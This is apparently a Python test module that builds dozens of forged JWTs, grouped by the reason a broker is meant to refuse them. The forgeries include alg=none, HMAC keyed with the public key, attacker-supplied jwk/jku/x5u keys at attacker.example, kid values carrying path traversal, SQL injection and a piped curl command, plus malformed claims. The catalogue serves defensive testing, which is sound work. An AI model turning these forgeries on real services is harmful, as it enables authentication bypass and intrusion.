"""Tokens that must open no channel, each an attack with a name, by the reason for which it is refused.

Each is made from an issuer whose real key the broker believes, so that nothing but the forgery is wrong with it.
"""

import base64
import json
from collections.abc import Callable
from typing import Any

from tests.support.tokens import Issuer, compact, ec_key, ed_key, hmac_signer, rsa_key, segment

Forge = Callable[[Issuer], str]
SOMEWHERE = "https://attacker.example/keys.json"


def _nothing(_message: bytes) -> bytes:
    return b""


def _junk(_message: bytes) -> bytes:
    return b"junk"


def _jwk(issuer: Issuer, **header: Any) -> str:
    """Sign with a key of the attacker's own, which the header offers in some way."""
    return compact(issuer.header(**header), issuer.claims(), rsa_key("attacker").sign)


def _raw_claims(issuer: Issuer, text: str) -> str:
    """Sign claims exactly as they are spelled; `text` goes in front of the good ones."""
    good = json.dumps(issuer.claims())[1:]
    return compact(issuer.header(), f"{{{text}, {good}".encode(), issuer.sign)


def _raw_claims_instead(issuer: Issuer, name: str, text: str) -> str:
    good = json.dumps(issuer.claims(name))[1:]
    return compact(issuer.header(), f'{{"{name}": {text}, {good}'.encode(), issuer.sign)


def _raw_header(issuer: Issuer, text: str) -> str:
    good = json.dumps(issuer.header())[1:]
    return compact(f"{{{text}, {good}".encode(), issuer.claims(), issuer.sign)


def _changed(issuer: Issuer, part: int, change: Callable[[str], str]) -> str:
    parts = issuer.token().split(".")
    parts[part] = change(parts[part])
    return ".".join(parts)


def _other_last_bits(signature: str) -> str:
    """Spell the same bytes differently: the last character has bits that decoders ignore."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return signature[:-1] + alphabet[alphabet.index(signature[-1]) ^ 1]


# By the reason for which each is refused: an attack that only fails by accident is not defended against.
ATTACKS: dict[str, dict[str, Forge]] = {
    "the token is not three base64url segments": {
        "alg-none-empty-signature": lambda i: compact(i.header(alg="none"), i.claims(), _nothing),
        "signature-empty": lambda i: _changed(i, 2, lambda _: ""),
        "two-segments": lambda i: i.token().rsplit(".", 1)[0],
        "four-segments": lambda i: i.token() + ".AAAA",
        "five-segments-like-jwe": lambda i: i.token() + ".AAAA.AAAA",
        "json-serialisation": lambda i: json.dumps({"payload": segment(i.claims())}).replace(" ", ""),
        "empty-header": lambda i: _changed(i, 0, lambda _: ""),
        "empty-payload": lambda i: _changed(i, 1, lambda _: ""),
        "only-dots": lambda _: "..",
        "padded": lambda i: i.token() + "==",
        "padded-payload": lambda i: _changed(i, 1, lambda s: s + "="),
        "standard-base64": lambda i: _changed(i, 1, lambda s: s + "+/"),
        "blank-inside": lambda i: i.token().replace(".", ". ", 1),
        "newline-inside": lambda i: i.token().replace(".", ".\n", 1),
        "trailing-newline": lambda i: i.token() + "\n",
        "nul-inside": lambda i: i.token() + "\x00",
        "not-ascii": lambda i: i.token()[:-1] + "é",
        "full-width-letter": lambda i: i.token()[:-1] + "\uff21",
        "lone-surrogate": lambda i: i.token()[:-1] + "\ud800",
    },
    "the token's alg is not one of this issuer's": {
        "alg-none-with-signature": lambda i: compact(i.header(alg="none"), i.claims(), _junk),
        "alg-none-honestly-signed": lambda i: i.token_with_header(alg="none"),
        "alg-nOnE": lambda i: compact(i.header(alg="nOnE"), i.claims(), _junk),
        "alg-empty": lambda i: i.token_with_header(alg=""),
        "alg-lower-case": lambda i: i.token_with_header(alg="rs256"),
        "alg-unknown": lambda i: i.token_with_header(alg="XX999"),
        "hs256-with-public-pem": lambda i: compact(i.header(alg="HS256"), i.claims(), hmac_signer(i.key.public_pem())),
        "hs256-with-public-pem-stripped": lambda i: compact(
            i.header(alg="HS256"), i.claims(), hmac_signer(i.key.public_pem().strip())
        ),
        "hs256-with-modulus": lambda i: compact(
            i.header(alg="HS256"), i.claims(), hmac_signer(base64.urlsafe_b64decode(i.key.jwk()["n"] + "=="))
        ),
        "hs256-with-empty-secret": lambda i: compact(i.header(alg="HS256"), i.claims(), hmac_signer(b"")),
        "rs512-not-configured": lambda i: compact(i.header(alg="RS512"), i.claims(), i.key.using("RS512").sign),
        "ps256-not-configured": lambda i: compact(i.header(alg="PS256"), i.claims(), i.key.using("PS256").sign),
        "es256-under-rsa-kid": lambda i: compact(i.header(alg="ES256"), i.claims(), ec_key().sign),
        "eddsa-under-rsa-kid": lambda i: compact(i.header(alg="EdDSA"), i.claims(), ed_key().sign),
        "es256-zero-signature": lambda i: compact(i.header(alg="ES256"), i.claims(), lambda _: bytes(64)),
        "kid-traversal-empty-hmac": lambda i: compact(
            i.header(alg="HS256", kid="../../dev/null"), i.claims(), hmac_signer(b"")
        ),
    },
    "the token's header has no usable alg or typ": {
        "alg-None-null": lambda i: i.token_with_header(alg=None),
        "alg-missing": lambda i: i.token_with_header("alg"),
        "alg-is-list": lambda i: i.token_with_header(alg=["RS256"]),
        "alg-is-number": lambda i: i.token_with_header(alg=256),
        "typ-number": lambda i: i.token_with_header(typ=1),
    },
    "the token's signature is by none of the issuer's keys or secrets": {
        "signature-truncated": lambda i: _changed(i, 2, lambda s: s[:-2]),
        "ps256-signature-as-rs256": lambda i: compact(i.header(), i.claims(), i.key.using("PS256").sign),
        "another-rsa-key": lambda i: compact(i.header(), i.claims(), rsa_key("attacker").sign),
        "signature-extended": lambda i: _changed(i, 2, lambda s: s + "AAAA"),
        "signature-one-bit": lambda i: _changed(i, 2, lambda s: ("B" if s[0] == "A" else "A") + s[1:]),
        "signature-of-another-token": lambda i: ".".join(
            [*i.token(org_id="evil").split(".")[:2], i.token().rsplit(".", 1)[1]]
        ),
        "jwk-own-key": lambda i: _jwk(i, jwk=rsa_key("attacker").jwk()),
        "jwk-own-key-without-kid": lambda i: compact(
            i.header("kid", jwk=rsa_key("attacker").jwk()), i.claims(), rsa_key("attacker").sign
        ),
        "jku": lambda i: _jwk(i, jku=SOMEWHERE),
        "jku-and-kid": lambda i: _jwk(i, jku=SOMEWHERE, kid=i.key.kid),
        "x5u": lambda i: _jwk(i, x5u=SOMEWHERE),
        "x5c": lambda i: _jwk(i, x5c=["MIIB"]),
    },
    "the token fails its check: DecodeError": {
        # Cut inside a byte, with bits of it left over: they must not be ignored.
        "signature-cut-inside-a-byte": lambda i: _changed(i, 2, lambda s: s[:-5] + "B"),
        "signature-other-spelling": lambda i: _changed(i, 2, _other_last_bits),
        "b64-false": lambda i: i.token_with_header(b64=False),
    },
    "the issuer publishes no key for this token": {
        "header-of-another-token": lambda i: ".".join(
            [i.token_with_header(kid="x").split(".")[0], *i.token().split(".")[1:]]
        ),
        "jwk-own-key-and-kid": lambda i: _jwk(i, jwk=rsa_key("attacker").jwk(), kid="attacker"),
        "kid-is-url": lambda i: _jwk(i, kid=SOMEWHERE),
        "kid-traversal": lambda i: _jwk(i, kid="../../../../dev/null"),
        "kid-sql": lambda i: _jwk(i, kid="x' UNION SELECT 'secret' --"),
        "kid-command": lambda i: _jwk(i, kid="| curl attacker.example"),
        "kid-nul": lambda i: _jwk(i, kid="rsa-1\x00"),
        "kid-empty": lambda i: i.token_with_header(kid=""),
        "kid-other-case": lambda i: i.token_with_header(kid="RSA-1"),
    },
    "the token's kid is no text, or too long": {
        "kid-number": lambda i: i.token_with_header(kid=1),
        "kid-null": lambda i: i.token_with_header(kid=None),
        "kid-list": lambda i: i.token_with_header(kid=["rsa-1"]),
        "kid-257-characters": lambda i: i.token_with_header(kid="k" * 257),
    },
    "the token has a crit header": {
        "crit-unknown": lambda i: i.token_with_header(crit=["exp"], exp=1),
        "crit-empty": lambda i: i.token_with_header(crit=[]),
        "crit-null": lambda i: i.token_with_header(crit=None),
        "crit-b64": lambda i: i.token_with_header(crit=["b64"], b64=True),
        "b64-false-in-crit": lambda i: i.token_with_header(crit=["b64"], b64=False),
    },
    "the token is of another type by its typ": {
        "typ-logout": lambda i: i.token_with_header(typ="logout+jwt"),
        "typ-security-event": lambda i: i.token_with_header(typ="application/SecEvent+JWT"),
    },
    "a segment of the token is not strict JSON": {
        "header-repeats-alg": lambda i: _raw_header(i, '"alg": "none"'),
        "header-repeats-kid": lambda i: _raw_header(i, '"kid": "rsa-1"'),
        "header-nan": lambda i: _raw_header(i, '"x": NaN'),
        "huge-integer": lambda i: _raw_claims(i, '"n": ' + "9" * 4500),
        "payload-repeats-owner": lambda i: _raw_claims(i, '"org_id": "evil"'),
        "payload-repeats-issuer": lambda i: _raw_claims(i, '"iss": "https://other.example"'),
        "payload-repeats-nested": lambda i: _raw_claims(i, '"deep": {"a": 1, "a": 2}'),
        "payload-nan": lambda i: _raw_claims(i, '"x": NaN'),
        "exp-nan": lambda i: _raw_claims_instead(i, "exp", "NaN"),
        "exp-infinity": lambda i: _raw_claims_instead(i, "exp", "Infinity"),
        "iat-nan": lambda i: _raw_claims_instead(i, "iat", "NaN"),
        "header-not-json": lambda i: compact(b"{alg: RS256}", i.claims(), i.sign),
        "header-byte-order-mark": lambda i: compact(
            b"\xef\xbb\xbf" + json.dumps(i.header()).encode(), i.claims(), i.sign
        ),
        "payload-not-json": lambda i: compact(i.header(), b"{'iss': 1}", i.sign),
        "payload-trailing-junk": lambda i: compact(i.header(), json.dumps(i.claims()).encode() + b"{}", i.sign),
        "header-not-utf8": lambda i: compact(b'{"alg": "RS256", "x": "\xff"}', i.claims(), i.sign),
        "header-utf16": lambda i: compact(json.dumps(i.header()).encode("utf-16"), i.claims(), i.sign),
        "impossible-base64-length": lambda i: _changed(i, 1, lambda s: s + "A" * ((1 - len(s)) % 4)),
        "deep-nesting": lambda i: compact(i.header(), b"[" * 4000, i.sign),
        "deep-nesting-in-header": lambda i: compact(b'{"a":' * 1000, i.claims(), i.sign),
    },
    "a segment of the token is not a JSON object": {
        "header-is-list": lambda i: compact([i.header()], i.claims(), i.sign),
        "header-is-text": lambda i: compact("alg", i.claims(), i.sign),
        "header-is-null": lambda i: compact(None, i.claims(), i.sign),
        "payload-is-list": lambda i: compact(i.header(), [i.claims()], i.sign),
        "payload-is-text": lambda i: compact(i.header(), "claims", i.sign),
    },
    "the token is too long": {
        "over-16-kB": lambda i: i.token(filler="x" * 16_384),
        "200-kB": lambda i: i.token(filler="x" * 200_000),
        "200-kB-of-dots": lambda _: "." * 200_000,
    },
    "the token names no issuer: it has no claim iss with text": {
        "iss-missing": lambda i: i.token("iss"),
        "iss-list": lambda i: i.token(iss=[i.url]),
        "iss-null": lambda i: i.token(iss=None),
    },
    "the token's issuer (iss) is not trusted on these routes": {
        "iss-unknown": lambda i: i.token(iss="https://attacker.example"),
        "iss-trailing-slash": lambda i: i.token(iss=i.url + "/"),
        "iss-prefix": lambda i: i.token(iss=i.url + ".attacker.example"),
        "iss-other-case": lambda i: i.token(iss=i.url.upper()),
    },
    "the token has no aud; name the claim that it has instead as audience_claim": {
        "aud-missing": lambda i: i.token("aud"),
        "aud-empty-list": lambda i: i.token(aud=[]),
        "aud-empty": lambda i: i.token(aud=""),
    },
    "the token has no sub": {
        "sub-missing": lambda i: i.token("sub"),
        "sub-null": lambda i: i.token(sub=None),
    },
    "the token has no exp": {
        "exp-missing": lambda i: i.token("exp"),
        "exp-null": lambda i: i.token(exp=None),
    },
    "the token's aud is none of the issuer's audiences": {
        "aud-other": lambda i: i.token(aud="another-api"),
        "aud-prefix": lambda i: i.token(aud=i.audience + "-2"),
        "aud-list-without-us": lambda i: i.token(aud=["a", "b"]),
        "aud-list-with-number": lambda i: i.token(aud=[i.audience, 1]),
        "aud-object": lambda i: i.token(aud={i.audience: True}),
    },
    "the claim sub for the subject is not text of 1 to 255 printable characters": {
        "sub-empty": lambda i: i.token(sub=""),
        "sub-256-characters": lambda i: i.token(sub="s" * 256),
        "sub-nul": lambda i: i.token(sub="user-1\x00"),
        "sub-surrogate": lambda i: i.token(sub="user\ud800"),
    },
    "the token's sub is no text": {
        "sub-number": lambda i: i.token(sub=7),
        "sub-list": lambda i: i.token(sub=["user-1"]),
    },
    "the token's jti is no text": {
        "jti-number": lambda i: i.token(jti=5),
    },
    "the token has expired by its exp": {
        "exp-past": lambda i: i.token(exp=i.now - 31),
        "exp-past-exactly-at-leeway": lambda i: i.token(exp=i.now - 30),
    },
    "the token has a malformed exp, iat or nbf": {
        "exp-text": lambda i: i.token(exp=str(i.now + 300)),
        "exp-true": lambda i: i.token("iat", exp=True),
        "exp-1e400": lambda i: _raw_claims_instead(i, "exp", "1e400"),
        "exp-10-to-the-400": lambda i: _raw_claims_instead(i, "exp", "1" + "0" * 400),
        "exp-negative": lambda i: i.token(exp=-1),
        "exp-list": lambda i: i.token(exp=[i.now + 300]),
        "exp-in-milliseconds": lambda i: i.token(exp=(i.now + 300) * 1000),
        "iat-text": lambda i: i.token(iat=str(i.now)),
        "iat-null": lambda i: i.token(iat=None),
        "nbf-text": lambda i: i.token(nbf="0"),
        "nbf-null": lambda i: i.token(nbf=None),
    },
    "the token lives longer, from iat to exp, than this issuer's tokens may": {
        "exp-in-ten-years": lambda i: i.token(exp=i.now + 315_360_000),
        "exp-in-ten-years-without-iat": lambda i: i.token("iat", exp=i.now + 315_360_000),
        "lifetime-over-with-iat-in-the-past": lambda i: i.token(iat=i.now - 86_200, exp=i.now + 300),
        "lifetime-one-second-over": lambda i: i.token(exp=i.now + 86_401),
    },
    "the token is not valid yet by its iat": {
        "lifetime-hidden-by-future-iat": lambda i: i.token(iat=i.now + 9_999_000, exp=i.now + 9_999_300),
        "iat-future": lambda i: i.token(iat=i.now + 31),
    },
    "the token is not valid yet by its nbf": {
        "nbf-future": lambda i: i.token(nbf=i.now + 31),
    },
    "the token is an ID token: it has nonce": {
        "id-token-nonce": lambda i: i.token(nonce="n"),
    },
    "the token is an ID token: it has at_hash": {
        "id-token-at-hash": lambda i: i.token(at_hash="h"),
    },
    "the token is an ID token: it has c_hash": {
        "id-token-c-hash": lambda i: i.token(c_hash="h"),
    },
}
FORGERIES = {name: (reason, forge) for reason, group in ATTACKS.items() for name, forge in group.items()}
